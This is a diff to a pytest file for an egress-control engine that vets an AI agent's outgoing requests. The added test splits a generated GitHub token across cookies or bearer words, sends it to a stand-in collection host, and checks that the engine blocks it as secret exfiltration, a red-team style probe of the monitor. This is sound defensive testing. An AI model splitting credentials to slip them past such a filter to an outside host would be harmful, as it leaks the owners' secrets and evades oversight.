@@ -18,6 +18,7 @@ from urllib.parse import quote
 
 import pytest
 
+from bench.corpora.generated import github
 from sidecar.engine import Engine, checks
 from sidecar.engine.decisions import Decision
 from sidecar.engine.destinations import dns_exfiltration, registrable_domain, ssrf
@@ -392,3 +393,18 @@ def test_hex_digests_are_not_key_ids_forwards_or_backwards(engine):
         body = {"messages": [{"role": "user", "content": "\n".join(lines)}]}
         v = engine.decide("POST", "https://api.anthropic.com/v1/messages", JSON, body)
         assert v.decision is Decision.ALLOW, v.signals
+
+
+def test_a_credential_sent_in_pieces_is_carried_never_presented(engine):
+    """An issuer reads a credential whole: split over cookies or bearer words, it is the
+    value carried out, not the agent's own credential presented (a red team's probe)."""
+    token = github(random.Random(7))
+    head, tail = token[:20], token[20:]
+    for headers in ({"Cookie": f"a={head}; b={tail}"}, {"Authorization": f"Bearer {head} {tail}"}):
+        v = engine.decide("GET", "https://collect.example.net/x", headers, None)
+        assert v.decision is Decision.DENY, headers
+        assert "SECRET_EXFILTRATION" in v.reason_codes
+    whole = engine.decide(
+        "GET", "https://api.github.com/user", {"Authorization": f"Bearer {token}"}, None
+    )
+    assert (whole.decision, whole.reason_codes) == (Decision.ALLOW, ["OWN_CREDENTIAL"])
